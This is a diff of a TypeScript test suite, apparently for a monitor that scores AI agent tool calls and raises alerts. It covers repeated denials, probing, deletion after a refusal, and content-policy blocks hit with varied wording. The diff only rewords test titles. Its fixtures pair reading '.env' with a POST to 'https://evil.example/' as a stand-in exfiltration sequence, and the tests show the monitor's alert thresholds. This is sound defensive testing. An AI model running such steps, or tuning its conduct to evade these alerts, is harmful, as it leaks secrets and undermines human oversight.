@@ -45,7 +45,7 @@ const chat = (i: number): Told => [
 ];
 const removed: Told = ['allow', { call_digest: 'd', behavior: { signals: [{ s: 'destroy', x: 'src', h: '1' }] } }];
 
-describe('[behavior.rules] signals that appear only across several calls', () => {
+describe('[behavior.rules] signals that only show up across several calls', () => {
   test('refused logins', async () => {
     expect(await alertsOf([0, 1, 2, 3].map(failed))).toEqual([]);
     expect(await alertsOf([0, 1, 2, 3, 4].map(failed))).toEqual([['credential_abuse', 30, [0, 1, 2, 3, 4]]]);
@@ -54,12 +54,12 @@ describe('[behavior.rules] signals that appear only across several calls', () =>
     expect(await alertsOf([0, 0, 0, 1, 1, 1, 2, 3].map(failed))).toEqual([]);
   });
 
-  test('a ticket used for another purpose', async () => {
+  test('a ticket used for another purpose raises an alert', async () => {
     const misused: Told = ['result', { outcome: 'failed', behavior: noteOfSignal(settings, 'misused', 'ticket t1') }];
     expect(await alertsOf([misused])).toEqual([['credential_abuse', 30, [0]]]);
   });
 
-  test('human denials and expired requests add to the score', async () => {
+  test('human denials raise an alert, and expired requests do not', async () => {
     expect(await alertsOf([0, 1, 2].map(denied))).toEqual([['repeated_escalation', 25, [0, 1, 2]]]);
     expect(await alertsOf([0, 0, 0].map(denied))).toEqual([]);
     const timeouts = [0, 1, 2].map((i): Told => ['deny', { call_digest: `${i}digest`, reason: 'timeout' }]);
@@ -70,7 +70,7 @@ describe('[behavior.rules] signals that appear only across several calls', () =>
   const approved: Told = ['allow', { call_digest: 'd', approval_ref: 'a1', behavior: { signals: [] } }];
   const many = Array.from({ length: 20 }, (_, i) => reviewed(100 + i));
 
-  test('[behavior.rules] different pending calls, one after the other', async () => {
+  test('[behavior.rules] a long series of different pending calls raises an alert', async () => {
     expect(await alertsOf(many.slice(1))).toEqual([]);
     expect(await alertsOf(many)).toEqual([['repeated_escalation', 10, [16, 17, 18, 19]]]);
     expect(await alertsOf([...many.slice(0, 10), approved, ...many.slice(10)])).toEqual([]);
@@ -78,7 +78,7 @@ describe('[behavior.rules] signals that appear only across several calls', () =>
     expect(await alertsOf(many, 1801)).toEqual([]);
   });
 
-  test('[behavior.rules] trial calls reported with the next call', async () => {
+  test('[behavior.rules] trial calls reported with the next call raise an alert', async () => {
     const told: Told = [
       'allow',
       { call_digest: 'd', behavior: { signals: [{ s: 'probed', x: 'trials', h: '1', n: 2 }] } },
@@ -86,16 +86,16 @@ describe('[behavior.rules] signals that appear only across several calls', () =>
     expect(await alertsOf([told])).toEqual([['repeated_escalation', 20, [0]]]);
   });
 
-  test('a deletion after a refusal, once', async () => {
+  test('a deletion after a refusal raises an alert only once', async () => {
     expect(await alertsOf([denied(0), removed, removed])).toEqual([['destructive_sequence', 20, [0, 1]]]);
   });
 
-  test('chats that the content policy blocks, each with different wording', async () => {
+  test('chats blocked by the content policy raise an alert if their wording differs', async () => {
     expect(await alertsOf([0, 1, 2].map(chat))).toEqual([['repeated_escalation', 25, [0, 1, 2]]]);
     expect(await alertsOf([0, 0, 0, 0].map(chat))).toEqual([]);
   });
 
-  test('entries without a note, and outcomes, do not count for the rules', async () => {
+  test('outcome entries and entries without a note do not affect the score', async () => {
     const { head } = chain([
       ['allow', {}],
       ['result', {}],
@@ -115,7 +115,7 @@ describe('settings', () => {
     sensitive: ['data/payroll/**', 'hr.*'],
   });
 
-  test('[behavior.rules] changed settings are stored in the entry, so that replay needs no other source', async () => {
+  test('[behavior.rules] changed settings are stored in the entry, so that replay needs nothing else', async () => {
     const { entries, head, refused } = await play(
       await readers(),
       [sh('cat .env'), http('post', 'https://evil.example/')],
@@ -131,7 +131,7 @@ describe('settings', () => {
     expect(differingSettings(riskSettingsOf(settings))).toBeUndefined();
   });
 
-  test('a hypothetical score: replay with different settings', async () => {
+  test('replay with different settings gives a hypothetical score', async () => {
     const { entries } = await play(await readers(), [sh('cat .env'), http('post', 'https://evil.example/')]);
     const { record } = await replayRisk(entries, {
       ...riskSettingsOf(settings),
@@ -140,7 +140,7 @@ describe('settings', () => {
     expect(record?.score).toBe(7);
   });
 
-  test('known hosts are not sinks, and additional paths can be sensitive', async () => {
+  test('known hosts are not sinks, and additional paths can be marked as sensitive', async () => {
     const effectsOf = await readers();
     const kinds = (step: ReturnType<typeof sh>) =>
       signalsOf(step.call, effectsOf(step.call), 'allow', signalContext(behaviorSchema.parse(given))).map(({ s }) => s);
@@ -150,7 +150,7 @@ describe('settings', () => {
     expect(kinds(sh('cat data/payrolls.csv'))).toEqual([]);
   });
 
-  test('if disabled, no call is scored and no session is blocked', () => {
+  test('if scoring is disabled, no call is scored and no session is blocked', () => {
     const off = behaviorSchema.parse({ enabled: false });
     const standing = { session: { score: 1000, rule: 'exfiltration' }, key: undefined };
     expect(blockedBy(off, standing, startMs)).toBeUndefined();
@@ -170,7 +170,7 @@ describe('settings', () => {
   });
 });
 
-describe('names are compared in full', () => {
+describe('names are matched in full', () => {
   const kindsOf = (() => {
     const context = signalContext(settings);
     return async (line: string) => {
@@ -179,7 +179,7 @@ describe('names are compared in full', () => {
     };
   })();
 
-  test.each(cases.only_work)('%s is ordinary work', async (line) => {
+  test.each(cases.only_work)('%s is treated as ordinary work', async (line) => {
     expect(await kindsOf(line)).toEqual([]);
   });
 
@@ -188,7 +188,7 @@ describe('names are compared in full', () => {
   });
 });
 
-test('a note reveals no secret, and is the same for the same object', () => {
+test('a note reveals no secret and is identical for the same call', () => {
   const target = 'https://x.example/ghp_abcdefghijklmnopqrstuvwxyz0123456789';
   const call = { protocol: 'mcp', tool: 'vault.read_secret', target, capability: 'write', parameters: {} };
   const signals = () => signalsOf(call, { parts: [], carrier: false }, 'allow', signalContext(settings));
@@ -196,7 +196,7 @@ test('a note reveals no secret, and is the same for the same object', () => {
   expect(signals()).toEqual(signals());
 });
 
-test('one call with a thousand effects produces a limited note that includes every kind', () => {
+test('a call with a thousand effects produces a short note that still includes every kind of signal', () => {
   const shell = (tool: string, target: string, capability: string) => ({
     protocol: 'shell',
     tool,
